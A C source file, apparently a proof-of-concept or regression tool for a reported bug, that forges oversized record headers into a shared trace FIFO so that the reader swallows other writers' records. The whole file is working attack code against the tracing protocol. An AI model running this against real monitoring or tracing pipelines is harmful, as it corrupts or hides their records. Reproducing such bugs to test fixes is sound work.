/*
 * forge FIFO N DIR: the attack of issue 10 on the trace stream.  N
 * times, write a bare 32-byte record header whose len says 4096 into
 * FIFO (one write, so it lands between other writers' records), then
 * stat DIR/f-<i>, a path that does not exist: the library's record of
 * that stat follows the forged header at once, so each forged header
 * claims records of real writers as its body.  The header carries no
 * byte 0x42 but the magic's first, so a reader that skips it finds the
 * next record exactly 32 bytes on.
 */
#include <err.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "../../common/wire.h"

int
main(int argc, char **argv)
{
	struct sb_hdr h = {.magic = SB_WIRE_MAGIC, .len = SB_REC_MAX, .version = SB_WIRE_VERSION,
	    .type = SB_MSG_ACCESS, .frag = SB_FRAG_WHOLE};
	char path[4096];
	struct stat st;
	int fd;

	if (argc != 4)
		errx(2, "usage: forge FIFO N DIR");
	if ((fd = open(argv[1], O_WRONLY | O_CLOEXEC)) == -1)
		err(1, "%s", argv[1]);
	for (long i = 0, n = atol(argv[2]); i < n; i++) {
		if (write(fd, &h, 32) != 32)
			err(1, "write");
		snprintf(path, sizeof(path), "%s/f-%ld", argv[3], i);
		if (stat(path, &st) == 0)
			errx(1, "%s exists", path);
	}
	return 0;
}
